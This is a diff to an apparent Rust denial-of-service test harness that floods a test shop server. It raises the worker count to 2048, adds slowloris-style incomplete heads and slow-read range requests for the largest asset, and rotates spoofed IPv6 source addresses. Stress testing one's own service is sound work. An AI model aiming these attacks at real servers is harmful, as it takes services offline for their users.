@@ -16,8 +16,8 @@ pub const MEGABITS: u64 = 50;
 /// The IPv6 network of the attackers; each connection has a different source address.
 pub const NETWORK_V6: &str = "2001:db8:77::";
 const ADDRESSES_V4: [&str; 2] = ["198.51.100.2", "198.51.100.3"];
-/// The number of concurrent attackers.
-const WORKERS: u64 = 256;
+/// The number of concurrent attackers: most of them hold a connection for seconds, and the others fill the bandwidth.
+const WORKERS: u64 = 2048;
 const HOLD: Duration = Duration::from_secs(8);
 
 /// The totals of the attack.
@@ -31,11 +31,29 @@ pub struct AttackReport {
 #[derive(Default)]
 struct SharedLink {
     totals: Cell<(u64, u64, u64)>,
+    /// The path of the page's longest file.
+    asset: String,
+}
+
+/// The longest of the files that the page names.
+async fn longest_asset(port: u16) -> String {
+    let _ = rustls::crypto::ring::default_provider().install_default();
+    let client = reqwest::Client::new();
+    let url = |path: &str| format!("http://{SERVER_V4}:{port}{path}");
+    let page = client.get(url("/app/")).send().await.expect("the page").text().await.expect("its text");
+    let mut longest = (0, "/app/".to_owned());
+    for path in page.split('"').filter(|text| text.starts_with("/app/assets/")) {
+        let head = client.head(url(path)).send().await.expect("a file of the page");
+        let length = head.headers().get("content-length").and_then(|value| value.to_str().ok()?.parse::<u64>().ok());
+        longest = longest.max((length.unwrap_or(0), path.to_owned()));
+    }
+    assert!(longest.0 > 0, "the page is not built, so its files cannot be requested");
+    longest.1
 }
 
 /// Floods the server's port for this many seconds, and prints the report.
 pub async fn run(port: u16, seconds: u64) {
-    let link = Rc::new(SharedLink::default());
+    let link = Rc::new(SharedLink { asset: longest_asset(port).await, ..SharedLink::default() });
     let began = Instant::now();
     let end = began + Duration::from_secs(seconds);
     let local = LocalSet::new();
@@ -69,7 +87,7 @@ async fn attack(link: &SharedLink, port: u16, n: u64, began: Instant) {
         format!("POST {path} HTTP/1.1\r\nHost: shop.example\r\n{headers}Content-Length: {length}\r\n\r\n")
     };
     let whole = |head: String, body: &str| [head.as_bytes(), body.as_bytes()].concat();
-    let (bytes, waits) = match n % 8 {
+    let (bytes, waits) = match n % 11 {
         // Forms that take long to parse and sort.
         0 | 1 => (whole(request("/webhook/incoming_call", &format!("{signed}{form}"), junk.len()), &junk), true),
         // Incomplete bodies.
@@ -89,6 +107,14 @@ async fn attack(link: &SharedLink, port: u16, n: u64, began: Instant) {
         }
         // An incomplete request head, then silence.
         6 => (b"GET / HTTP/1.1\r\nHost:".to_vec(), false),
+        // A head as long as the server accepts, without its end, then silence.
+        7 => (format!("GET / HTTP/1.1\r\nHost: shop.example\r\nCookie: a={}", "a".repeat(15 << 10)).into(), false),
+        // The longest file of the page, uncompressed, whole or in part, of which nothing is read.
+        8 | 9 => {
+            let range = if n.is_multiple_of(2) { "" } else { "Range: bytes=1000-\r\n" };
+            let head = format!("GET {} HTTP/1.1\r\nHost: shop.example\r\n{range}\r\n", link.asset);
+            (head.repeat(20).into(), false)
+        }
         _ => (Vec::new(), false),
     };
     for part in bytes.chunks(16 << 10) {
@@ -97,7 +123,10 @@ async fn attack(link: &SharedLink, port: u16, n: u64, began: Instant) {
             return;
         }
     }
-    if waits {
+    if matches!(n % 11, 8 | 9) {
+        // Nothing is read.
+        sleep(HOLD).await;
+    } else if waits {
         let _ = stream.read(&mut [0; 512]).await;
     } else {
         // The connection is held open until the server closes it.
@@ -106,8 +135,8 @@ async fn attack(link: &SharedLink, port: u16, n: u64, began: Instant) {
 }
 
 async fn connect(link: &SharedLink, port: u16, n: u64) -> Option<TcpStream> {
-    let (from, to) = match n / 8 % 4 {
-        0 | 1 => (ADDRESSES_V4[(n / 8 % 2) as usize].parse::<IpAddr>().ok()?, SERVER_V4.parse::<IpAddr>().ok()?),
+    let (from, to) = match n / 11 % 4 {
+        0 | 1 => (ADDRESSES_V4[(n / 11 % 2) as usize].parse::<IpAddr>().ok()?, SERVER_V4.parse::<IpAddr>().ok()?),
         _ => {
             let network: Ipv6Addr = NETWORK_V6.parse().ok()?;
             // Source addresses from the whole /48: each connection has a different /64.
@@ -116,6 +145,8 @@ async fn connect(link: &SharedLink, port: u16, n: u64) -> Option<TcpStream> {
         }
     };
     let socket = if from.is_ipv4() { TcpSocket::new_v4() } else { TcpSocket::new_v6() }.ok()?;
+    // The kernel of a client that does not read takes little.
+    socket.set_recv_buffer_size(4096).ok()?;
     socket.bind(SocketAddr::new(from, 0)).ok()?;
     let connected = timeout(Duration::from_secs(3), socket.connect(SocketAddr::new(to, port))).await;
     let connected = connected.ok().and_then(Result::ok);
